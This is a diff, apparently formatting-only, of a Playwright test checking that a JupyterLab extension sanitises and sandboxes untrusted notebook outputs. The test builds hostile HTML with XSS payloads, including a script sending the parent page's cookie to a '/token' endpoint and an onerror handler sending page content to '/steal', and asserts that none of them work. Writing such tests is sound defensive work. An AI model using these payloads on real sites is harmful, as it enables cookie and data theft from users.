@@ -11,11 +11,18 @@ import { expect, test } from './fixtures';
 import { recordedSession } from './records';
 
 /** A local HTTP listener that records every request it gets. */
-async function startListener(): Promise<{ base: string; hits: string[]; close: () => Promise<void> }> {
+async function startListener(): Promise<{
+  base: string;
+  hits: string[];
+  close: () => Promise<void>;
+}> {
   const hits: string[] = [];
   const server = http.createServer((req, res) => {
     hits.push(`${req.method} ${req.url}`);
-    res.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
+    res.writeHead(200, {
+      'Content-Type': 'text/html',
+      'Access-Control-Allow-Origin': '*'
+    });
     res.end('<script>parent.__pwned = "from listener"</script>leaked');
   });
   await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
@@ -48,7 +55,9 @@ function hostileHtml(base: string, linkBase: string): string {
     `<object data="${base}/object"></object><embed src="${base}/embed">`,
     `<video src="${base}/video" autoplay></video><audio src="${base}/audio" autoplay></audio>`,
     // A script that would steal the viewer's token if it could run or reach the page.
-    '<script>fetch("' + base + '/token?" + parent.localStorage.length + parent.document.cookie)</script>',
+    '<script>fetch("' +
+      base +
+      '/token?" + parent.localStorage.length + parent.document.cookie)</script>',
     `<img src="x" onerror="new Image().src='${base}/steal?'+encodeURIComponent(parent.document.body.innerHTML)">`
   ].join('\n');
 }
@@ -92,7 +101,9 @@ async function probe(frame: Frame, base: string) {
       parentStorage: await attempt(() => (parent as any).localStorage.length),
       parentApp: await attempt(() => (parent as any).jupyterapp.name),
       cookie: await attempt(() => document.cookie),
-      fetch: await attempt(() => fetch(`${base}/probe-fetch`).then(r => r.status)),
+      fetch: await attempt(() =>
+        fetch(`${base}/probe-fetch`).then(r => r.status)
+      ),
       topNavigation: await attempt(() => {
         (top as any).location.href = `${base}/probe-top`;
         return 'navigated';
@@ -122,17 +133,26 @@ test.describe('untrusted outputs', () => {
         outputs: [
           {
             output_type: 'display_data',
-            data: { 'text/html': hostileHtml(base, linkTarget.base), 'text/plain': 'html fallback' },
+            data: {
+              'text/html': hostileHtml(base, linkTarget.base),
+              'text/plain': 'html fallback'
+            },
             metadata: {}
           },
           {
             output_type: 'display_data',
-            data: { 'image/svg+xml': hostileSvg(base), 'text/plain': 'svg fallback' },
+            data: {
+              'image/svg+xml': hostileSvg(base),
+              'text/plain': 'svg fallback'
+            },
             metadata: {}
           },
           {
             output_type: 'display_data',
-            data: { 'text/markdown': hostileMarkdown(base), 'text/plain': 'markdown fallback' },
+            data: {
+              'text/markdown': hostileMarkdown(base),
+              'text/plain': 'markdown fallback'
+            },
             metadata: {}
           },
           {
@@ -158,10 +178,20 @@ test.describe('untrusted outputs', () => {
     await trail.ingest(recorded.events);
 
     try {
-      await page.evaluate(() => (window as any).jupyterapp.commands.execute('trail:open-panel'));
+      await page.evaluate(() =>
+        (window as any).jupyterapp.commands.execute('trail:open-panel')
+      );
       const sidebar = page.locator('#jp-trail-sidebar');
-      await sidebar.locator(`.jp-Trail-SessionItem[data-session-id="${recorded.sessionId}"]`).click();
-      await sidebar.locator(`.jp-Trail-ExecutionItem[data-execution-id="${recorded.executionIds[0]}"]`).click();
+      await sidebar
+        .locator(
+          `.jp-Trail-SessionItem[data-session-id="${recorded.sessionId}"]`
+        )
+        .click();
+      await sidebar
+        .locator(
+          `.jp-Trail-ExecutionItem[data-execution-id="${recorded.executionIds[0]}"]`
+        )
+        .click();
 
       const outputs = sidebar.locator('.jp-Trail-Outputs');
       const frames = outputs.locator('iframe.jp-Trail-SandboxFrame');
@@ -170,12 +200,22 @@ test.describe('untrusted outputs', () => {
         await expect(frames.nth(i)).toHaveAttribute('sandbox', 'allow-scripts');
       }
       // The safe part shows, in the frames and as text fallbacks.
-      const html = outputs.frameLocator('iframe.jp-Trail-SandboxFrame >> nth=0');
+      const html = outputs.frameLocator(
+        'iframe.jp-Trail-SandboxFrame >> nth=0'
+      );
       await expect(html.locator('h3.safe')).toHaveText('Safe heading survives');
-      await expect(html.getByText('Safe paragraph text survives.')).toBeVisible();
-      const markdown = outputs.frameLocator('iframe.jp-Trail-SandboxFrame >> nth=1');
-      await expect(markdown.locator('strong')).toHaveText('Safe markdown text survives');
-      const second = outputs.frameLocator('iframe.jp-Trail-SandboxFrame >> nth=2');
+      await expect(
+        html.getByText('Safe paragraph text survives.')
+      ).toBeVisible();
+      const markdown = outputs.frameLocator(
+        'iframe.jp-Trail-SandboxFrame >> nth=1'
+      );
+      await expect(markdown.locator('strong')).toHaveText(
+        'Safe markdown text survives'
+      );
+      const second = outputs.frameLocator(
+        'iframe.jp-Trail-SandboxFrame >> nth=2'
+      );
       await expect(second.getByText('Second frame text')).toBeVisible();
       await expect(outputs).toContainText('javascript fallback text');
       // The frames grew to fit their content.
@@ -184,9 +224,17 @@ test.describe('untrusted outputs', () => {
       // Nothing dangerous survived sanitizing, not even inside the frames.
       for (const frame of [html, markdown, second]) {
         await expect(frame.locator('script:not([nonce])')).toHaveCount(0);
-        await expect(frame.locator('iframe, object, embed, meta[http-equiv=refresh], base, link')).toHaveCount(0);
-        await expect(frame.locator('form[action], [formaction]')).toHaveCount(0);
-        await expect(frame.locator('[onerror], [onload], [onclick]')).toHaveCount(0);
+        await expect(
+          frame.locator(
+            'iframe, object, embed, meta[http-equiv=refresh], base, link'
+          )
+        ).toHaveCount(0);
+        await expect(frame.locator('form[action], [formaction]')).toHaveCount(
+          0
+        );
+        await expect(
+          frame.locator('[onerror], [onload], [onclick]')
+        ).toHaveCount(0);
         await expect(frame.locator('a[href^="javascript"]')).toHaveCount(0);
       }
       // Clicking what is left of the links and the form does nothing either.
@@ -209,7 +257,11 @@ test.describe('untrusted outputs', () => {
 
       // Even a script that did run inside a frame (the test's own) reaches
       // neither the page, its storage or token, nor the network.
-      const sandboxed = page.frames().filter(f => f !== page.mainFrame() && f.url().startsWith('about:srcdoc'));
+      const sandboxed = page
+        .frames()
+        .filter(
+          f => f !== page.mainFrame() && f.url().startsWith('about:srcdoc')
+        );
       expect(sandboxed.length).toBeGreaterThanOrEqual(3);
       for (const frame of sandboxed) {
         expect(await probe(frame, base)).toEqual({
@@ -224,7 +276,9 @@ test.describe('untrusted outputs', () => {
       }
       await page.waitForTimeout(500);
 
-      expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
+      expect(
+        await page.evaluate(() => (window as any).__pwned)
+      ).toBeUndefined();
       expect(dialogs).toEqual([]);
       expect(listener.hits).toEqual([]);
       // The page is still JupyterLab, untouched.
